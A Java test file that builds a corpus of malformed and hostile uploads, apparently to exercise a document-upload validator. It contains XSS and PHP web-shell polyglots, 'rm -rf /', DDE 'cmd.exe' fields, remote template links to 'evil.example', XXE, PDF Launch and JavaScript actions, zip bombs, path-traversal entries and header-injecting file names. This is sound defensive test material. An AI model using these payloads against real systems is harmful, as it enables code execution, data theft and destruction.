package thangdiem.evidence;

import static thangdiem.evidence.Samples.docx;
import static thangdiem.evidence.Samples.good;
import static thangdiem.evidence.Samples.half;
import static thangdiem.evidence.Samples.joined;
import static thangdiem.evidence.Samples.latin;
import static thangdiem.evidence.Samples.open;
import static thangdiem.evidence.Samples.pdf;
import static thangdiem.evidence.Samples.relation;
import static thangdiem.evidence.Samples.xlsx;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Supplier;
import thangdiem.Papers;

/** Files as people send them, by mistake or on purpose (bộ tệp thử); made here, kept nowhere. */
final class Corpus {

  /** A file as it is sent. */
  record Sent(String name, Supplier<byte[]> bytes) {}

  private final Map<String, Sent> files = new LinkedHashMap<>();

  private Corpus() {}

  /** All of it, by what each is. */
  static Map<String, Sent> all() {
    var corpus = new Corpus();
    corpus.goodOnes();
    corpus.wronglyCalled();
    corpus.twoInOne();
    corpus.otherKinds();
    corpus.activeOffice();
    corpus.oddArchives();
    corpus.pdfs();
    corpus.pictures();
    corpus.sizes();
    return corpus.files;
  }

  private void put(String what, String name, Supplier<byte[]> bytes) {
    if (files.put(what, new Sent(name, bytes)) != null) {
      throw new AssertionError("twice: " + what);
    }
  }

  private void put(String what, String name, byte[] bytes) {
    put(what, name, () -> bytes);
  }

  private void goodOnes() {
    for (var kind : Kind.values()) {
      put("good " + kind, "bao-cao." + kind.extension(), good(kind));
      put("good " + kind + " in capitals", "BAO-CAO." + kind.extension().toUpperCase(), good(kind));
    }
    put("good JPEG called .jpeg", "anh.jpeg", good(Kind.JPEG));
    put("name composed (NFC)", "Báo cáo số 12 của Sở.pdf", good(Kind.PDF));
    put("name decomposed (NFD)", "Báo cáo.pdf", good(Kind.PDF));
    put("name of 255 bytes", "ế".repeat(83) + "aa.pdf", good(Kind.PDF));
    put("name with a path", "../../../etc/cron.d/x.pdf", good(Kind.PDF));
    put("name with a Windows path", "C:\\Users\\x\\bao-cao.pdf", good(Kind.PDF));
    put("name read from the right", "bao\u202Ecod.exe\u202C.pdf", good(Kind.PDF));
    put("name with a NUL", "bao\0cao.pdf", good(Kind.PDF));
    put("name of a device", "CON.pdf", good(Kind.PDF));
    put("name with an end that Windows drops", "bao-cao.pdf. . ", good(Kind.PDF));
    put("name with line breaks", "a\r\nSet-Cookie: x.pdf", good(Kind.PDF));
    put("PDF changed after it was made", "sua.pdf", joined(good(Kind.PDF), good(Kind.PDF)));
    put(
        "JPEG with what a phone adds at its end",
        "may.jpg",
        joined(good(Kind.JPEG), new byte[900]));
    put(
        "DOCX with a link to click",
        "lien-ket.docx",
        docx("<w:document/>", relation("hyperlink", "https://haugiang.gov.vn", true)).done());
    put(
        "XLSX with numbers of another workbook",
        "lien-ket.xlsx",
        xlsx().text("xl/externalLinks/externalLink1.xml", "<externalLink/>").done());
    put(
        "XLSX that names another workbook",
        "lien-ket-2.xlsx",
        xlsx(relation("externalLinkPath", "khac.xlsx", true)).done());
    put(
        "ODS with a chart",
        "bieu-do.ods",
        open(Kind.ODS).text("Object 1/content.xml", "<office:chart/>").done());
  }

  private void wronglyCalled() {
    for (var kind : Kind.values()) {
      for (var other : Kind.values()) {
        if (kind != other) {
          put(kind + " called ." + other.extension(), "a." + other.extension(), good(kind));
        }
      }
      put(kind + " without an end", "a", good(kind));
      put(kind + " called .exe", "a." + kind.extension() + ".exe", good(kind));
    }
  }

  private void twoInOne() {
    var page = latin("<html><script>alert(1)</script></html>");
    var archive = RawZip.begun().text("a.txt", "a").done();
    put(
        "PDF and HTML at its head",
        "a.pdf",
        joined(latin("%PDF-1.4\n<html><script>alert(1)</script>\n"), good(Kind.PDF)));
    put("PDF and HTML at its end", "a.pdf", joined(good(Kind.PDF), page));
    put("PDF and ZIP", "a.pdf", joined(good(Kind.PDF), archive));
    put("HTML and PDF", "a.pdf", joined(page, good(Kind.PDF)));
    put("GIF and JavaScript", "a.png", latin("GIF89a=1;alert(1)//"));
    put("PNG and PHP", "a.png", Samples.pngSaying("<?php system($_GET[0]); ?>"));
    put("PNG and HTML behind", "a.png", joined(good(Kind.PNG), page));
    put("PNG and ZIP", "a.png", joined(good(Kind.PNG), archive));
    put("JPEG and SVG", "a.jpg", Samples.jpegSaying("<svg onload=alert(1)>"));
    put("JPEG and PHP", "a.jpg", Samples.jpegSaying("<?php phpinfo(); ?>"));
    put("JPEG and HTML", "a.jpg", Samples.jpegSaying("<HTML><SCRIPT>alert(1)</SCRIPT>"));
    put("JPEG and ZIP", "a.jpg", joined(good(Kind.JPEG), archive));
    put("JPEG and PDF", "a.jpg", joined(good(Kind.JPEG), good(Kind.PDF)));
    put("script and DOCX", "a.docx", joined(latin("#!/bin/sh\nrm -rf /\n"), good(Kind.DOCX)));
    put("PDF behind 100 bytes", "a.pdf", joined(new byte[100], good(Kind.PDF)));
  }

  private void otherKinds() {
    put("HTML called PDF", "a.pdf", latin("<!doctype html><script>alert(1)</script>"));
    put("SVG with a script", "a.png", latin("<svg><script>alert(1)</script></svg>"));
    put("SVG with foreign objects", "a.svg", latin("<svg><foreignObject/></svg>"));
    put("MHTML", "a.docx", latin("MIME-Version: 1.0\nContent-Type: multipart/related\n"));
    put("program", "a.pdf", latin("MZ\u0090\0\u0003\0\0\0"));
    put(
        "EICAR",
        "a.pdf",
        latin("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"));
    put("text", "a.txt", latin("Bao cao"));
    put("CSV", "a.csv", latin("a;b;c"));
    put("RTF", "a.docx", latin("{\\rtf1 Bao cao}"));
    put("XML", "a.xlsx", latin("<?xml version=\"1.0\"?><Workbook/>"));
    put("PostScript", "a.pdf", latin("%!PS-Adobe-3.0"));
    put("ZIP", "a.zip", RawZip.begun().text("bao-cao.txt", "a").done());
    put("ZIP called DOCX", "a.docx", RawZip.begun().text("bao-cao.txt", "a").done());
    put("empty ZIP", "a.docx", RawZip.begun().done());
    put("JAR", "a.xlsx", RawZip.begun().text("META-INF/MANIFEST.MF", "Main-Class: A").done());
    put(
        "PPTX",
        "a.pptx",
        RawZip.begun()
            .text("[Content_Types].xml", Samples.TYPES.formatted(""))
            .text("ppt/presentation.xml", "<p/>")
            .done());
    put("EPUB", "a.odt", RawZip.begun().stored("mimetype", latin("application/epub+zip")).done());
    put("RAR", "a.rar", latin("Rar!\u001a\u0007\0"));
    put("7z", "a.7z", latin("7z\u00bc\u00af\u0027\u001c"));
    put("gzip", "a.gz", latin("\u001f\u008b\u0008\0"));
    put("GIF", "a.gif", latin("GIF89a\1\0\1\0"));
    put("BMP", "a.bmp", latin("BM\0\0\0\0"));
    put("TIFF", "a.tif", latin("II*\0\0\0\0\0"));
    put("TIFF of a Mac", "a.tif", latin("MM\0*\0\0\0\0"));
    put("WebP", "a.webp", latin("RIFF\0\0\0\0WEBPVP8 "));
    put("HEIC", "a.heic", latin("\0\0\0\u0018ftypheic\0\0\0\0"));
    put("HEIC called JPEG", "a.jpg", latin("\0\0\0\u0018ftypmif1\0\0\0\0"));
    put("MP4", "a.mp4", latin("\0\0\0\u0018ftypisom\0\0\0\0"));
    put("Word before 2007", "a.doc", old(""));
    put("Excel before 2007", "a.xls", old(""));
    put("Word before 2007 called PDF", "a.pdf", old(""));
    put(
        "DOCX behind a password",
        "a.docx",
        old("E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0"));
    put(
        "XLSX behind a password",
        "a.xlsx",
        old("E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0"));
  }

  private static byte[] old(String entry) {
    return joined(
        latin("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"), new byte[504], latin(entry));
  }

  private void activeOffice() {
    put("DOCX with macros", "a.docx", docx().stored("word/vbaProject.bin", new byte[9]).done());
    put("XLSX with macros", "a.xlsx", xlsx().stored("xl/vbaProject.bin", new byte[9]).done());
    put(
        "XLSX with macros of Excel 4",
        "a.xlsx",
        xlsx().text("xl/macrosheets/sheet1.xml", "<x/>").done());
    put(
        "macros under another name",
        "a.docx",
        RawZip.begun()
            .text(
                "[Content_Types].xml",
                Samples.TYPES.formatted(
                    "<Override PartName=\"/word/x.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"))
            .text("word/document.xml", "<d/>")
            .done());
    put(
        "DOCM called DOCX",
        "a.docx",
        RawZip.begun()
            .text(
                "[Content_Types].xml",
                Samples.TYPES.formatted(
                    "<Override PartName=\"/word/document.xml\""
                        + " ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"))
            .text("word/document.xml", "<d/>")
            .done());
    put(
        "ODT with macros",
        "a.odt",
        open(Kind.ODT).text("Basic/Standard/Module1.xml", "<m/>").done());
    put(
        "ODS with scripts",
        "a.ods",
        open(Kind.ODS).text("Scripts/python/a.py", "import os").done());
    put(
        "DOCX with an OLE object",
        "a.docx",
        docx().stored("word/embeddings/oleObject1.bin", new byte[9]).done());
    put(
        "OLE under another name",
        "a.docx",
        RawZip.begun()
            .text(
                "[Content_Types].xml",
                Samples.TYPES.formatted(
                    "<Default Extension=\"dat\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>"))
            .text("word/document.xml", "<d/>")
            .done());
    put(
        "XLSX with ActiveX",
        "a.xlsx",
        xlsx().stored("xl/activeX/activeX1.bin", new byte[9]).done());
    put(
        "DOCX with a chart and its workbook",
        "a.docx",
        docx().stored("word/embeddings/Microsoft_Excel_Sheet.xlsx", xlsx().done()).done());
    put(
        "DOCX with a template from elsewhere",
        "a.docx",
        docx("<d/>", relation("attachedTemplate", "http://evil.example/a.dotm", true)).done());
    put(
        "DOCX with a picture from elsewhere",
        "a.docx",
        docx("<d/>", relation("image", "http://evil.example/a.png", true)).done());
    put(
        "DOCX with a frame from elsewhere",
        "a.docx",
        docx("<d/>", relation("frame", "file:////evil/share", true)).done());
    put(
        "XLSX with a link to OLE elsewhere",
        "a.xlsx",
        xlsx(relation("oleObject", "http://evil.example/a", true)).done());
    put(
        "DDE in a field",
        "a.docx",
        docx("<w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\cmd.exe\"/>", "").done());
    put(
        "DDE in an instruction",
        "a.docx",
        docx("<w:instrText>DDE cmd /k</w:instrText>", "").done());
    put(
        "DDE in a workbook",
        "a.xlsx",
        xlsx().text("xl/externalLinks/externalLink1.xml", "<ddeLink ddeService=\"cmd\"/>").done());
    put(
        "DDE in an open document",
        "a.ods",
        open(Kind.ODS).text("settings.xml", "<office:dde-source/>").done());
    put(
        "DTD in a document",
        "a.docx",
        docx("<!DOCTYPE x SYSTEM \"http://evil.example\"><d/>", "").done());
    put(
        "DTD in relations",
        "a.xlsx",
        xlsx("").text("xl/_rels/b.xml.rels", "<!DOCTYPE x><r/>").done());
    put(
        "entities in a sheet",
        "a.xlsx",
        xlsx().text("xl/worksheets/sheet1.xml", "<!ENTITY lol \"lol\"><s/>").done());
    put(
        "DTD in UTF-16",
        "a.docx",
        docx()
            .deflated("word/styles.xml", "<!DOCTYPE x><s/>".getBytes(StandardCharsets.UTF_16LE))
            .done());
    put(
        "DTD in an open document",
        "a.odt",
        open(Kind.ODT).text("styles.xml", "<!DOCTYPE x [<!ENTITY a \"b\">]><s/>").done());
    put(
        "open document behind a password",
        "a.odt",
        RawZip.begun()
            .stored("mimetype", latin(Kind.ODT.mediaType()))
            .text("META-INF/manifest.xml", "<manifest:encryption-data/>")
            .done());
  }

  private void oddArchives() {
    var zeros = new byte[64 << 20];
    var mega = new byte[8 << 20];
    put("bomb of one part", "a.docx", () -> docx().deflated("word/a.bin", zeros).done());
    put(
        "bomb of many parts",
        "a.xlsx",
        () -> {
          var zip = xlsx();
          for (int i = 0; i < 30; i++) {
            zip.stored("xl/media/m" + i + ".dat", new byte[1 << 10])
                .deflated("xl/media/b" + i, mega);
          }
          return zip.done();
        });
    put(
        "archive in an archive (42)",
        "a.docx",
        docx().deflated("word/media/42.bin", RawZip.begun().deflated("a", mega).done()).done());
    put(
        "archive that holds itself",
        "a.docx",
        docx().stored("word/media/r.bin", docx().done()).done());
    put(
        "RAR in an archive",
        "a.xlsx",
        xlsx().stored("xl/media/a.bin", latin("Rar!\u001a\7\0")).done());
    put(
        "overlapping parts",
        "a.docx",
        docx().deflated("word/a.bin", mega).overlapping("word/b.bin").done());
    put(
        "2,001 parts",
        "a.xlsx",
        () -> {
          var zip = xlsx();
          for (int i = 0; i < 1998; i++) {
            zip.stored("xl/p" + i, new byte[1]);
          }
          return zip.done();
        });
    put("a million parts, as it says", "a.xlsx", xlsx().done(0xffff));
    put("symbolic link", "a.docx", docx().link("word/media/a", "/etc/passwd").done());
    put("path that climbs", "a.docx", docx().text("word/../../../etc/cron.d/a", "x").done());
    put("absolute path", "a.docx", docx().text("/etc/cron.d/a", "x").done());
    put("path with backslashes", "a.docx", docx().text("word\\..\\a", "x").done());
    put("path with a drive", "a.docx", docx().text("C:a", "x").done());
    put("path with a control character", "a.docx", docx().text("word/a\nb", "x").done());
    put("part twice", "a.docx", docx().text("word/document.xml", "<other/>").done());
    put(
        "part twice but for capitals",
        "a.docx",
        docx().text("WORD/document.xml", "<other/>").done());
    put("encrypted part", "a.docx", docx().encrypted("word/media/a", new byte[9]).done());
    put(
        "part with two names",
        "a.docx",
        docx().otherwiseCalled("word/media/a", "word/media/b", new byte[9]).done());
    put("unknown compression", "a.docx", docx().method("word/media/a", 14, new byte[9]).done());
    put(
        "broken compression",
        "a.docx",
        docx().method("word/media/a", 8, latin("\u00ff\u00ff\u00ff")).done());
    put("fewer parts than it says", "a.docx", docx().done(9));
    put("DOCX cut in half", "a.docx", half(good(Kind.DOCX)));
    put(
        "XLSX without its last byte",
        "a.xlsx",
        java.util.Arrays.copyOf(good(Kind.XLSX), good(Kind.XLSX).length - 1));
    put("the first bytes of a ZIP", "a.docx", latin("PK\3\4"));
  }

  private void pdfs() {
    put(
        "PDF with JavaScript",
        "a.pdf",
        pdf("/OpenAction 3 0 R", "<< /S /JavaScript /JS (app.alert(1)) >>"));
    put(
        "PDF with JavaScript written otherwise",
        "a.pdf",
        pdf("/OpenAction 3 0 R", "<< /S /J#61vaScr#69pt /#4aS (app.alert(1)) >>"));
    put(
        "PDF with JavaScript in a packed object",
        "a.pdf",
        pdf("/OpenAction 9 0 R", Samples.packed("<< /S /JavaScript /JS (app.alert(1)) >>")));
    put("PDF that starts a program", "a.pdf", pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"));
    put("PDF with an XFA form", "a.pdf", pdf("/AcroForm << /XFA 3 0 R >>"));
    put("PDF with a file in it", "a.pdf", pdf("/Names << /EmbeddedFiles 3 0 R >>"));
    put(
        "PDF that does everything",
        "a.pdf",
        pdf("/AcroForm << /XFA 3 0 R >> /OpenAction << /S /Launch >> /AA << /JS (1) >>"));
    put(
        "PDF behind a password",
        "a.pdf",
        latin(
            new String(good(Kind.PDF), StandardCharsets.ISO_8859_1)
                .replace("/Root 1 0 R", "/Root 1 0 R /Encrypt 9 0 R")));
    put("PDF that speaks of Encrypt", "a.pdf", Papers.ofOnePage("ve /Encrypt trong PDF"));
    put("PDF cut in half", "a.pdf", half(good(Kind.PDF)));
    put("only the head of a PDF", "a.pdf", latin("%PDF-1.7\n"));
    put("PDF without objects", "a.pdf", latin("%PDF-1.7\n%%EOF\n"));
    put("PDF with much behind its end", "a.pdf", joined(good(Kind.PDF), new byte[50_000]));
    put("PDF of zeros", "a.pdf", joined(latin("%PDF-1.7\n"), new byte[1 << 20]));
  }

  private void pictures() {
    put("PNG of 50 million pixels", "a.png", Samples.png(10_000, 5_000));
    put("PNG of more than that", "a.png", Samples.png(10_000, 5_001));
    put("PNG as large as can be said", "a.png", Samples.png(Integer.MAX_VALUE, Integer.MAX_VALUE));
    put("PNG of no width", "a.png", Samples.png(0, 100));
    put("PNG of negative width", "a.png", Samples.png(-5, 100));
    put("PNG cut in half", "a.png", half(good(Kind.PNG)));
    put("only the head of a PNG", "a.png", latin("\u0089PNG\r\n\u001a\n"));
    put("JPEG of 65,535 times 65,535", "a.jpg", Samples.jpeg(65_535, 65_535));
    put("JPEG of no height", "a.jpg", Samples.jpeg(100, 0));
    put("JPEG cut in half", "a.jpg", half(good(Kind.JPEG)));
    put("only the head of a JPEG", "a.jpg", latin("\u00ff\u00d8\u00ff\u00e0"));
  }

  private void sizes() {
    for (var kind : Kind.values()) {
      put("empty " + kind, "a." + kind.extension(), new byte[0]);
    }
    put("26 MB", "a.pdf", () -> joined(good(Kind.PDF), new byte[26 << 20]));
    put("25 MB and a byte", "a.jpg", () -> joined(good(Kind.JPEG), new byte[25 << 20]));
  }
}
